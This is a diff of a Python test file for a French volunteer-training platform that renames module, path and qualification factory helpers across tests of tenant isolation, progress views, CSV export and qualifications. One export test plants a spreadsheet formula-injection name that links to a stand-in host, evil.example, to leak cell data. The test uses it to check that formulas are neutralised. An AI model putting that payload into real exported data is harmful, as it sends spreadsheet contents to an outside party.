@@ -16,9 +16,9 @@ from sqlalchemy import func, select
 from tests.factories import make_membership, make_site, make_user, page_text
 from tests.training.factories import (
     complete_module,
-    make_module_in_area,
-    make_path_of,
-    make_qualification_named,
+    make_module,
+    make_path,
+    make_qualification,
 )
 from volunteer_platform.db import utcnow
 from volunteer_platform.extensions import db
@@ -121,7 +121,7 @@ def test_a_volunteer_is_refused_every_coordination_page_and_action(client, login
                                                                     coordinator_a):
     login_as(volunteer_a)
     mine = membership_of(volunteer_a, tenant_a).id
-    module = make_module_in_area(None, title="Sécurité", requires_attendance=True)
+    module = make_module(None, title="Sécurité", requires_attendance=True)
     for path in GET_PAGES + [f"/people/{mine}"]:
         assert client.get(A + path).status_code == 403, path
     posts = {
@@ -139,8 +139,8 @@ def test_a_volunteer_is_refused_every_coordination_page_and_action(client, login
 
 def test_a_coordinator_of_another_structure_gets_404_for_this_structures_people_and_records(
         client, login_as, tenant_a, tenant_b, volunteer_a, coordinator_b):
-    qualification = make_qualification_named()
-    module = make_module_in_area(None, title="Démarches en ligne", qualification=qualification)
+    qualification = make_qualification()
+    module = make_module(None, title="Démarches en ligne", qualification=qualification)
     complete_module(volunteer_a, module, tenant_a)
     award = db.session.scalars(select(QualificationAward)).one()
     attestation = db.session.scalars(select(Attestation)).one()
@@ -168,7 +168,7 @@ def test_a_coordinator_of_another_structure_gets_404_for_this_structures_people_
 def test_an_award_or_attestation_of_another_member_is_not_found_under_this_member(
         client, login_as, tenant_a, coordinator_a, volunteer_a):
     other = member(tenant_a, "Odile Autre")
-    module = make_module_in_area(None, title="Démarches", qualification=make_qualification_named())
+    module = make_module(None, title="Démarches", qualification=make_qualification())
     complete_module(volunteer_a, module, tenant_a)
     award = db.session.scalars(select(QualificationAward)).one()
     attestation = db.session.scalars(select(Attestation)).one()
@@ -183,7 +183,7 @@ def test_an_award_or_attestation_of_another_member_is_not_found_under_this_membe
 
 def test_another_structures_private_module_cannot_be_used_here(client, login_as, tenant_a, tenant_b,
                                                                coordinator_a, volunteer_a):
-    private_b = make_module_in_area(tenant_b, title="Module propre à B", requires_attendance=True)
+    private_b = make_module(tenant_b, title="Module propre à B", requires_attendance=True)
     login_as(coordinator_a)
     mine = membership_of(volunteer_a, tenant_a).id
     assert client.post(f"{A}/people/{mine}/modules/{private_b.id}/attendance",
@@ -199,9 +199,9 @@ def test_another_structures_private_module_cannot_be_used_here(client, login_as,
 
 
 def test_the_matrix_shows_each_members_state_in_words(client, login_as, tenant_a, tenant_b, coordinator_a):
-    email = make_module_in_area(None, title="Créer une adresse e-mail", lessons=3, questions=1)
-    scams = make_module_in_area(tenant_a, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
-    make_module_in_area(tenant_b, title="Module de B")
+    email = make_module(None, title="Créer une adresse e-mail", lessons=3, questions=1)
+    scams = make_module(tenant_a, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
+    make_module(tenant_b, title="Module de B")
     alice = member(tenant_a, "Alice Achevé").user
     bruno = member(tenant_a, "Bruno Encours").user
     chloe = member(tenant_a, "Chloé Assignée").user
@@ -234,9 +234,9 @@ def test_the_matrix_shows_each_members_state_in_words(client, login_as, tenant_a
 
 
 def test_a_path_assignment_shows_on_each_of_its_modules(client, login_as, tenant_a, coordinator_a, volunteer_a):
-    first = make_module_in_area(None, title="Module 1")
-    second = make_module_in_area(None, title="Module 2")
-    path = make_path_of(None, [first, second])
+    first = make_module(None, title="Module 1")
+    second = make_module(None, title="Module 2")
+    path = make_path(None, [first, second])
     assign(tenant_a, [volunteer_a], path=path)
     login_as(coordinator_a)
     rows = matrix_cells(client.get(f"{A}/progress"))
@@ -245,8 +245,8 @@ def test_a_path_assignment_shows_on_each_of_its_modules(client, login_as, tenant
 
 def test_the_matrix_filters(client, login_as, tenant_a, coordinator_a):
     site = make_site(tenant_a, name="Médiathèque")
-    email = make_module_in_area(None, title="Créer une adresse e-mail")
-    scams = make_module_in_area(None, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
+    email = make_module(None, title="Créer une adresse e-mail")
+    scams = make_module(None, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
     helene = member(tenant_a, "Hélène Martin", site_id=site.id).user
     member(tenant_a, "Paul Durand")
     member(tenant_a, "Théo Formateur", Role.TRAINER, site_id=site.id)
@@ -273,7 +273,7 @@ def test_the_matrix_filters(client, login_as, tenant_a, coordinator_a):
 def test_the_matrix_runs_the_same_number_of_queries_whatever_its_size(client, login_as, tenant_a, coordinator_a,
                                                                       count_queries):
     def grow(members, modules, start):
-        made = [make_module_in_area(None, title=f"Module {start + i}", area=CompetenceArea.SAFETY)
+        made = [make_module(None, title=f"Module {start + i}", area=CompetenceArea.SAFETY)
                 for i in range(modules)]
         people = [member(tenant_a, f"Bénévole {start + i}").user for i in range(members)]
         for i, person in enumerate(people):  # a mix of states in every size
@@ -312,8 +312,8 @@ def test_the_matrix_runs_the_same_number_of_queries_whatever_its_size(client, lo
 def test_the_csv_export_opens_in_excel_with_accents_and_the_pages_filters(client, login_as, tenant_a,
                                                                           coordinator_a):
     site = make_site(tenant_a, name="Mairie annexe")
-    email = make_module_in_area(None, title="Créer une adresse e-mail")
-    make_module_in_area(None, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
+    email = make_module(None, title="Créer une adresse e-mail")
+    make_module(None, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
     helene = member(tenant_a, "Hélène Martin", site_id=site.id).user
     complete_module(helene, email, tenant_a)
     login_as(coordinator_a)
@@ -340,8 +340,8 @@ def test_the_csv_export_opens_in_excel_with_accents_and_the_pages_filters(client
 
 def test_the_csv_export_neutralises_spreadsheet_formulas(client, login_as, tenant_a, coordinator_a):
     site = make_site(tenant_a, name="@Lieu piégé")
-    make_module_in_area(tenant_a, title="+Module piégé")
-    make_module_in_area(tenant_a, title="-1 module")
+    make_module(tenant_a, title="+Module piégé")
+    make_module(tenant_a, title="-1 module")
     member(tenant_a, '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")', site_id=site.id)
     member(tenant_a, "\tTabulation")
     login_as(coordinator_a)
@@ -362,10 +362,10 @@ def test_the_csv_export_neutralises_spreadsheet_formulas(client, login_as, tenan
 
 def test_the_person_page_shows_modules_paths_qualifications_and_attestations(
         client, login_as, tenant_a, coordinator_a, volunteer_a):
-    qualification = make_qualification_named(name="Accompagnement aux démarches en ligne", validity_months=24)
-    done = make_module_in_area(None, title="Démarches en ligne et FranceConnect", qualification=qualification)
-    started = make_module_in_area(None, title="Les bases du smartphone", lessons=2, questions=0)
-    path = make_path_of(None, [done, started], title="Aidant numérique — niveau 1")
+    qualification = make_qualification(name="Accompagnement aux démarches en ligne", validity_months=24)
+    done = make_module(None, title="Démarches en ligne et FranceConnect", qualification=qualification)
+    started = make_module(None, title="Les bases du smartphone", lessons=2, questions=0)
+    path = make_path(None, [done, started], title="Aidant numérique — niveau 1")
     assign(tenant_a, [volunteer_a], path=path, due_on=paris_today() + timedelta(days=30))
     complete_module(volunteer_a, done, tenant_a)
     read_lessons(volunteer_a, started, tenant_a, 1)
@@ -386,7 +386,7 @@ def test_the_person_page_shows_modules_paths_qualifications_and_attestations(
 
 
 def test_recording_an_external_qualification(client, login_as, tenant_a, coordinator_a, volunteer_a):
-    qualification = make_qualification_named(name="Certification PIX")
+    qualification = make_qualification(name="Certification PIX")
     mine = membership_of(volunteer_a, tenant_a).id
     login_as(coordinator_a)
     obtained = paris_today() - timedelta(days=40)
@@ -408,7 +408,7 @@ def test_recording_an_external_qualification(client, login_as, tenant_a, coordin
 
 def test_an_external_qualification_needs_a_past_date_and_a_note(client, login_as, tenant_a, coordinator_a,
                                                                  volunteer_a):
-    qualification = make_qualification_named()
+    qualification = make_qualification()
     mine = membership_of(volunteer_a, tenant_a).id
     login_as(coordinator_a)
     future = client.post(f"{A}/people/{mine}/qualifications", data={
@@ -428,8 +428,8 @@ def test_an_external_qualification_needs_a_past_date_and_a_note(client, login_as
 
 def test_withdrawing_a_qualification_withdraws_its_attestation(client, login_as, tenant_a, coordinator_a,
                                                                volunteer_a):
-    qualification = make_qualification_named()
-    module = make_module_in_area(None, title="Démarches en ligne", qualification=qualification)
+    qualification = make_qualification()
+    module = make_module(None, title="Démarches en ligne", qualification=qualification)
     complete_module(volunteer_a, module, tenant_a)
     award = db.session.scalars(select(QualificationAward)).one()
     assert queries.holds_qualification(volunteer_a.id, qualification.id, utcnow())
@@ -457,7 +457,7 @@ def test_withdrawing_a_qualification_withdraws_its_attestation(client, login_as,
 
 
 def test_withdrawing_an_attestation(client, login_as, tenant_a, coordinator_a, volunteer_a):
-    module = make_module_in_area(None, title="Les bases du smartphone")
+    module = make_module(None, title="Les bases du smartphone")
     complete_module(volunteer_a, module, tenant_a)
     attestation = db.session.scalars(select(Attestation)).one()
     mine = membership_of(volunteer_a, tenant_a).id
@@ -473,8 +473,8 @@ def test_withdrawing_an_attestation(client, login_as, tenant_a, coordinator_a, v
 
 def test_recording_in_person_attendance_completes_the_module(client, login_as, tenant_a, coordinator_a,
                                                              volunteer_a):
-    module = make_module_in_area(None, title="Posture de l'aidant numérique", requires_attendance=True)
-    plain = make_module_in_area(None, title="Sans présentiel")
+    module = make_module(None, title="Posture de l'aidant numérique", requires_attendance=True)
+    plain = make_module(None, title="Sans présentiel")
     complete_module(volunteer_a, module, tenant_a)  # lessons and quiz done, the session missing
     assert count(ModuleCompletion) == 0
     mine = membership_of(volunteer_a, tenant_a).id
@@ -502,13 +502,13 @@ def test_recording_in_person_attendance_completes_the_module(client, login_as, t
 
 def test_the_person_page_runs_the_same_number_of_queries_whatever_the_history(
         client, login_as, tenant_a, coordinator_a, volunteer_a, count_queries):
-    qualification = make_qualification_named()
+    qualification = make_qualification()
     mine = membership_of(volunteer_a, tenant_a).id
     login_as(coordinator_a)
 
     def history(n, start):
         for i in range(n):
-            module = make_module_in_area(None, title=f"Module {start + i}", qualification=qualification)
+            module = make_module(None, title=f"Module {start + i}", qualification=qualification)
             complete_module(volunteer_a, module, tenant_a)
 
     def measure():
@@ -526,7 +526,7 @@ def test_the_person_page_runs_the_same_number_of_queries_whatever_the_history(
 
 
 def test_assigning_a_module_with_a_due_date(client, login_as, tenant_a, coordinator_a, volunteer_a):
-    module = make_module_in_area(None, title="Créer une adresse e-mail")
+    module = make_module(None, title="Créer une adresse e-mail")
     other = member(tenant_a, "Odile Autre").user
     login_as(coordinator_a)
     page = client.get(f"{A}/assign")
@@ -548,7 +548,7 @@ def test_assigning_a_module_with_a_due_date(client, login_as, tenant_a, coordina
 
 def test_a_due_date_in_the_past_is_refused_and_nothing_is_saved(client, login_as, tenant_a, coordinator_a,
                                                                 volunteer_a):
-    module = make_module_in_area(None, title="Créer une adresse e-mail")
+    module = make_module(None, title="Créer une adresse e-mail")
     login_as(coordinator_a)
     response = client.post(f"{A}/assign", data={
         "target": f"module:{module.id}", "members": [str(volunteer_a.id)],
@@ -560,7 +560,7 @@ def test_a_due_date_in_the_past_is_refused_and_nothing_is_saved(client, login_as
 
 
 def test_assigning_needs_someone(client, login_as, tenant_a, coordinator_a, volunteer_a):
-    module = make_module_in_area(None, title="Créer une adresse e-mail")
+    module = make_module(None, title="Créer une adresse e-mail")
     login_as(coordinator_a)
     response = client.post(f"{A}/assign", data={"target": f"module:{module.id}"})
     assert response.status_code == 422
@@ -569,7 +569,7 @@ def test_assigning_needs_someone(client, login_as, tenant_a, coordinator_a, volu
 
 
 def test_assigning_a_path_to_all_volunteers(client, login_as, tenant_a, tenant_b, coordinator_a, volunteer_a):
-    path = make_path_of(None, [make_module_in_area(None, title="Module 1")])
+    path = make_path(None, [make_module(None, title="Module 1")])
     second = member(tenant_a, "Valérie Deux").user
     member(tenant_a, "Ian Actif", is_active=False)
     member(tenant_a, "Thomas Formateur", Role.TRAINER)
@@ -588,10 +588,10 @@ def test_assigning_a_path_to_all_volunteers(client, login_as, tenant_a, tenant_b
 
 
 def test_the_default_path_setting(client, login_as, tenant_a, tenant_b, coordinator_a):
-    module = make_module_in_area(None, title="Module 1")
-    path = make_path_of(None, [module], title="Aidant numérique — niveau 1")
-    draft = make_path_of(None, [module], title="Parcours en préparation", publish=False)
-    private_b = make_path_of(tenant_b, [module], title="Parcours de B")
+    module = make_module(None, title="Module 1")
+    path = make_path(None, [module], title="Aidant numérique — niveau 1")
+    draft = make_path(None, [module], title="Parcours en préparation", publish=False)
+    private_b = make_path(tenant_b, [module], title="Parcours de B")
     login_as(coordinator_a)
     page = page_text(client.get(f"{A}/settings"))
     assert "aucun parcours n'est attribué automatiquement" in page
@@ -617,7 +617,7 @@ def test_the_default_path_setting(client, login_as, tenant_a, tenant_b, coordina
 
 
 def test_a_new_volunteer_gets_the_default_path_when_joining(app, tenant_a):
-    path = make_path_of(None, [make_module_in_area(None, title="Module 1")])
+    path = make_path(None, [make_module(None, title="Module 1")])
     services.set_default_path(tenant_a, path)
     db.session.commit()
     newcomer = member(tenant_a, "Nina Nouvelle")
@@ -639,7 +639,7 @@ def test_without_a_default_path_joining_assigns_nothing(app, tenant_a, tenant_b)
     newcomer = member(tenant_a, "Nina Nouvelle")
     member_joined.send(tenant_a, user=newcomer.user, membership=newcomer, now=utcnow())
     # B's default path is B's business.
-    path = make_path_of(None, [make_module_in_area(None, title="Module 1")])
+    path = make_path(None, [make_module(None, title="Module 1")])
     services.set_default_path(tenant_b, path)
     db.session.commit()
     member_joined.send(tenant_a, user=newcomer.user, membership=newcomer, now=utcnow())
@@ -651,7 +651,7 @@ def test_joining_through_an_invitation_gives_the_default_path(client, login_as, 
     from tests.auth.test_invitations import accept, invitation_link, invite
     from volunteer_platform.auth.models import User
 
-    path = make_path_of(None, [make_module_in_area(None, title="Module 1")])
+    path = make_path(None, [make_module(None, title="Module 1")])
     services.set_default_path(tenant_a, path)
     db.session.commit()
     login_as(coordinator_a)
